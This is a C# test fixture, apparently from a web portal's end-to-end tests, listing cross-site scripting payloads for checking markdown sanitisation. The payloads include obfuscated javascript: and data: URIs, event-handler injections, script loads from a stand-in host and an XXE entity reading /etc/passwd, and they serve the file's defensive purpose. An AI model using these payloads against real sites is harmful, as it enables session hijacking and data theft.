namespace NetworksPortal.EndToEnd.Tests.Stories;

/// <summary>What somebody writes who wants a colleague's browser to do something. Each calls <c>struck()</c>, asks a server elsewhere, or opens a dialog, if it gets its way.</summary>
internal static class NastyMarkdown
{
    private static readonly string[] Addresses =
    [
        "javascript:struck()", "JaVaScRiPt:struck()", "javascript:struck()//https://stad.gent", "javascript://stad.gent/%0Astruck()", "  javascript:struck()", "\u0001javascript:struck()",
        "java\tscript:struck()", "java&#9;script:struck()", "java&Tab;script:struck()", "java&NewLine;script:struck()", "&#106;avascript:struck()", "&#x6A;avascript&colon;struck()", "javascript&#58;struck()",
        "javascript&#x3A;struck&lpar;&rpar;", "jav\u00ADascript:struck()", "java\u200Bscript:struck()", "\uFEFFjavascript:struck()", "ｊavascript:struck()", "javascript：struck()", "%6Aavascript:struck()", "vbscript:msgbox(1)",
        "data:text/html,<script>struck()</script>", "data:text/html;base64,PHNjcmlwdD5zdHJ1Y2soKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=struck()>", "blob:https://stad.gent/1", "file:///etc/passwd", "view-source:javascript:struck()",
        "feed:javascript:struck()", "jar:javascript:struck()!/", "https://stad.gent\" onmouseover=\"struck()", "https://stad.gent' onfocus='struck()' autofocus='", "//elsewhere.example/a.js", "\\\\elsewhere.example\\a", "about:blank", "ws://elsewhere.example",
    ];

    private static readonly Func<string, string>[] Wrappers =
    [
        address => $"[klik]({address})", address => $"[klik](<{address}>)", address => $"<{address}>", address => $"![beeld]({address})", address => $"[klik][k]\n\n[k]: {address}", address => $"[![b]({address})]({address} \"t\\\" onclick=\\\"struck()\")",
    ];

    private static readonly string[] Html =
    [
        "<script>struck()</script>", "<SCRIPT SRC=//elsewhere.example/a.js></SCRIPT>", "<scr<script>ipt>struck()</scr</script>ipt>", "<script\n>struck()</script\n>", "<img src=x onerror=struck()>", "<img src=x onerror=&#115;truck()>", "<svg/onload=struck()>",
        "<svg><script>struck()</script></svg>", "<svg><animate onbegin=struck() attributeName=x></svg>", "<math><mtext><script>struck()</script></mtext></math>", "<iframe srcdoc='<script>parent.struck()</script>'></iframe>", "<iframe src=javascript:struck()></iframe>",
        "<object data=javascript:struck()></object>", "<embed src=javascript:struck()>", "<details open ontoggle=struck()>x</details>", "<body onload=struck()>", "<input autofocus onfocus=struck()>", "<video><source onerror=struck()></video>", "<audio src=x onerror=struck()>",
        "<marquee onstart=struck()>x</marquee>", "<form action=javascript:struck()><button>x</button></form>", "<button formaction=javascript:struck()>x</button>", "<isindex action=javascript:struck()>", "<meta http-equiv=refresh content='0;url=javascript:struck()'>", "<base href=//elsewhere.example/>",
        "<link rel=stylesheet href=//elsewhere.example/a.css>", "<style>*{background:url(//elsewhere.example)}</style>", "<div style='background:url(javascript:struck())'>x</div>", "<template><script>struck()</script></template>", "<noscript><p title='</noscript><img src=x onerror=struck()>'>",
        "<!--<img src='--><img src=x onerror=struck()>'>", "<![CDATA[<script>struck()</script>]]>", "<?xml-stylesheet href='javascript:struck()'?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", "<a href=\"jav&#x0A;ascript:struck()\">x</a>", "<a\u00A0href=javascript:struck()>x</a>",
        "<p id=x tabindex=1 onfocus=struck()>x</p>", "</section></main><script>struck()</script>", "</textarea><script>struck()</script>", "</title><script>struck()</script>", "<textarea></textarea><img src=x onerror=struck()>", "<dialog open oncancel=struck()>x</dialog>",
    ];

    private static readonly string[] Oddities =
    [
        "`<script>struck()</script>`", "```html\n<script>struck()</script>\n```", "```\"><script>struck()</script>\nx\n```", "    <script>struck()</script>", "| a |\n|---|\n| <img src=x onerror=struck()> |", "> <script>struck()</script>", "* <script>struck()</script>",
        "# <script>struck()</script>", "# x {onclick=struck()}", "[x](https://stad.gent){onclick=struck()}", "[[[[[[x](javascript:struck())](javascript:struck())]]]]", "[x](https://stad.gent (t) onclick=struck())", "&lt;script&gt;struck()&lt;/script&gt;", "&#60;script&#62;struck()&#60;/script&#62;",
        "\\<script>struck()\\</script>", "**<b onclick=struck()>x</b>**", "~~<i onmouseover=struck()>x</i>~~", "[x]: javascript:struck()\n\n[x]", "[^1]\n\n[^1]: <script>struck()</script>", "www.javascript:struck().example", "javascript:struck()@stad.gent", "<javascript:struck()@stad.gent>",
        "mailto:a@b.example?subject=<script>struck()</script>", "<mailto:\"><script>struck()</script>@b.example>", "https://stad.gent/<script>struck()</script>", "https://stad.gent/\"onmouseover=\"struck()", "\u202E<script>struck()</script>", "\0<script>struck()</script>", "＜script＞struck()＜/script＞", "<script>struck()",
    ];

    public static IReadOnlyList<string> All { get; } = [.. Addresses.SelectMany(address => Wrappers.Select(wrap => wrap(address))), .. Html, .. Oddities];
}
